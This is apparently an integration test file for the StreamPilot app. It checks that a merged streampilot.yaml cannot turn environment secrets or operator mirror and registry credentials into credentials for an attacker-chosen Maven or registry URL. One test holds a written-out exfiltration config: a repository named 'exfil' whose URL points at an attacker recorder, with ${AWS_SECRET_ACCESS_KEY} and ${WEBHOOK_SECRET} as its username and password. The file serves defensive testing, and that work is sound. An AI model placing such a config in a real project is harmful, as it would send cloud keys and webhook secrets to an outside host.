// Attack: a merged streampilot.yaml names `${AWS_SECRET_ACCESS_KEY}` / `${WEBHOOK_SECRET}` as the
// credentials of a Maven repository whose URL is a loopback recorder, hoping the app builds the
// merge and sends its own secrets there. The app runs as its own process with those secrets in its
// environment, against the fake GitHub; the recorder logs every request's Authorization header.
// No registry or Docker engine is needed: Maven is resolved before the base image is looked up.
// The same for registry credentials: a registry.repository the operator did not pin receives none.
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { AppProcess, newAppCredentials, type AppCredentials } from '../support/app-process.js';
import {
  startFakeGitHub,
  type FakeCheckRun,
  type FakeGitHub,
  type FakeRepository,
} from '../support/fake-github/fake-github.js';
import { GitRepository } from '../support/git-fixture.js';
import { deliverMergePush } from '../support/webhooks.js';

const BUILD_CHECK = 'StreamPilot / build';
const JAR = Buffer.from(`jar-${randomBytes(8).toString('hex')}`);

interface Recorder {
  url: string;
  authorizations: (string | undefined)[];
  close(): Promise<void>;
}

async function startRecorder(): Promise<Recorder> {
  const authorizations: (string | undefined)[] = [];
  const server: Server = createServer((req, res) => {
    authorizations.push(req.headers.authorization);
    const p = req.url ?? '';
    if (p.endsWith('/udf-1.0.jar')) return res.writeHead(200).end(JAR);
    if (p.endsWith('/udf-1.0.jar.sha256'))
      return res.writeHead(200).end(createHash('sha256').update(JAR).digest('hex'));
    return res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/maven2/`,
    authorizations,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

/** A registry that asks every caller for Basic credentials, as Harbor or a plain distribution registry does. */
async function startRegistryRecorder(): Promise<{
  host: string;
  authorizations: (string | undefined)[];
  close(): Promise<void>;
}> {
  const authorizations: (string | undefined)[] = [];
  const server: Server = createServer((req, res) => {
    authorizations.push(req.headers.authorization);
    res
      .writeHead(401, { 'www-authenticate': 'Basic realm="recorder"', 'content-type': 'application/json' })
      .end('{"errors":[{"code":"UNAUTHORIZED"}]}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    host: `127.0.0.1:${(server.address() as AddressInfo).port}`,
    authorizations,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

const project = (repositories: string, registry = '127.0.0.1:9') => `apiVersion: streampilot.dev/v1
kind: Project
defaults:
  baseImage: ${registry}/flink:1.20
registry:
  repository: ${registry}/acme/jobs
  insecure: true
maven:
  repositories:
${repositories}
environments:
  staging:
    namespace: flink-staging
    deployOn: merge
`;

describe('the app never turns a merged streampilot.yaml’s ${VAR} into Maven credentials', { timeout: 120_000 }, () => {
  const awsMarker = `aws-${randomBytes(10).toString('hex')}`;
  const allowedPassword = `allowed-${randomBytes(10).toString('hex')}`;
  const registryPassword = `registry-${randomBytes(10).toString('hex')}`;
  let registryRecorder: Awaited<ReturnType<typeof startRegistryRecorder>>;
  const source = mkdtempSync(path.join(tmpdir(), 'sp-app-maven-'));
  let pinned: Recorder;
  let attacker: Recorder;
  let credentials: AppCredentials;
  let github: FakeGitHub;
  let git: GitRepository;
  let repo: FakeRepository;
  let app: AppProcess;
  const fullName = () => `${repo.owner}/${repo.name}`;

  beforeAll(async () => {
    pinned = await startRecorder();
    attacker = await startRecorder();
    registryRecorder = await startRegistryRecorder();
    mkdirSync(path.join(source, 'jobs', 'orders'), { recursive: true });
    writeFileSync(
      path.join(source, 'streampilot.yaml'),
      project(`    - { id: central, url: "https://repo.maven.apache.org/maven2/" }`),
    );
    writeFileSync(
      path.join(source, 'jobs', 'orders', 'job.yaml'),
      'apiVersion: streampilot.dev/v1\nkind: FlinkSqlJob\nname: orders\nsql: [main.sql]\nupgradeMode: stateless\ndependencies:\n  maven: [org.example:udf:1.0]\n',
    );
    writeFileSync(
      path.join(source, 'jobs', 'orders', 'main.sql'),
      "CREATE TABLE src (id STRING) WITH ('connector' = 'datagen');\nCREATE TABLE snk (id STRING) WITH ('connector' = 'blackhole');\nINSERT INTO snk SELECT id FROM src;\n",
    );
    git = GitRepository.create({ from: source });
    credentials = newAppCredentials();
    github = await startFakeGitHub({ appId: credentials.appId, publicKey: credentials.publicKey });
    repo = github.addRepository({
      owner: 'acme',
      name: 'flink-jobs',
      installationId: 8181,
      gitDir: git.dir,
      cloneUrl: git.cloneUrl,
    });
    app = await AppProcess.start({
      credentials,
      githubHost: github.host,
      env: {
        // What a host running the app might hold, under the names the attack uses.
        AWS_SECRET_ACCESS_KEY: awsMarker,
        // The operator's allow-listed credentials for repository id `mirror`, pinned to one URL.
        STREAMPILOT_MAVEN_MIRROR_USERNAME: 'ci',
        STREAMPILOT_MAVEN_MIRROR_PASSWORD: allowedPassword,
        STREAMPILOT_MAVEN_MIRROR_URL: pinned.url,
        // The operator's registry credentials, for the operator's registry only.
        STREAMPILOT_REGISTRY_USERNAME: 'ci',
        STREAMPILOT_REGISTRY_PASSWORD: registryPassword,
        STREAMPILOT_REGISTRY_HOST: '127.0.0.1:9',
      },
    });
  }, 60_000);

  const markers = () => [awsMarker, credentials.webhookSecret, allowedPassword, registryPassword];
  const allowedHeader = () => `Basic ${Buffer.from(`ci:${allowedPassword}`).toString('base64')}`;

  afterEach(() => {
    const places = [
      app.logs,
      ...github.checkRuns.map((r) => JSON.stringify(r.output)),
      ...github.comments.map((c) => c.body),
    ];
    for (const marker of markers()) for (const text of places) expect(text.includes(marker)).toBe(false);
    // Whatever a test did, the attacker's URL never saw a credential.
    expect(attacker.authorizations.filter((a) => a !== undefined)).toEqual([]);
  });

  afterAll(async () => {
    await app?.stop();
    await github?.close();
    await pinned?.close();
    await attacker?.close();
    await registryRecorder?.close();
    git?.remove();
    rmSync(source, { recursive: true, force: true });
  });

  const pushAndBuild = async (files: Record<string, string>): Promise<FakeCheckRun> => {
    const before = git.sha('main');
    const sha = git.commit('main', files);
    await deliverMergePush({ url: app.webhookUrl, secret: credentials.webhookSecret, repo, before, after: sha });
    const run = await github.waitFor(
      () => github.checkRunsFor(fullName(), sha).find((r) => r.name === BUILD_CHECK && r.status === 'completed'),
      `a completed ${BUILD_CHECK}`,
      60_000,
    );
    await github.quiet(1000, 30_000);
    return run;
  };

  test('a push with username ${AWS_SECRET_ACCESS_KEY} / password ${WEBHOOK_SECRET} sends no marker to the recorder and fails the build at the key', async () => {
    const run = await pushAndBuild({
      'streampilot.yaml': project(
        `    - id: exfil\n      url: ${attacker.url}\n      username: \${AWS_SECRET_ACCESS_KEY}\n      password: \${WEBHOOK_SECRET}`,
      ),
    });
    expect(run.conclusion).toBe('failure');
    expect(`${run.output.title}\n${run.output.summary}`).toContain(
      'streampilot.yaml:12:7: `maven.repositories[0].username` is no longer read',
    );
    expect(attacker.authorizations).toEqual([]);
  });

  test('the operator’s STREAMPILOT_MAVEN_MIRROR_* are not sent when the repository gives `mirror` its own URL', async () => {
    const run = await pushAndBuild({ 'streampilot.yaml': project(`    - { id: mirror, url: "${attacker.url}" }`) });
    expect(run.conclusion).toBe('failure');
    expect(run.output.summary).toContain(
      'which is not the URL the credentials are for (STREAMPILOT_MAVEN_MIRROR_URL); nothing was sent',
    );
    expect(attacker.authorizations).toEqual([]);
  });

  test('a streampilot.yaml whose registry.repository names another registry gets no STREAMPILOT_REGISTRY_* credentials, even when asked', async () => {
    const run = await pushAndBuild({
      'streampilot.yaml': project(`    - { id: mirror, url: "${pinned.url}" }`, registryRecorder.host),
    });
    expect(run.conclusion).toBe('failure');
    expect(run.output.summary).toContain(
      `registry ${registryRecorder.host} is not the one STREAMPILOT_REGISTRY_USERNAME/_PASSWORD are for (STREAMPILOT_REGISTRY_HOST=127.0.0.1:9); nothing was sent`,
    );
    expect(registryRecorder.authorizations.filter((a) => a !== undefined)).toEqual([]);
  });

  test('the operator’s STREAMPILOT_MAVEN_MIRROR_* reach the pinned URL (the recorder sees credentials when they are sent)', async () => {
    await pushAndBuild({ 'streampilot.yaml': project(`    - { id: mirror, url: "${pinned.url}" }`) });
    expect(pinned.authorizations.length).toBeGreaterThan(0);
    expect(pinned.authorizations.every((a) => a === allowedHeader())).toBe(true);
  });
});
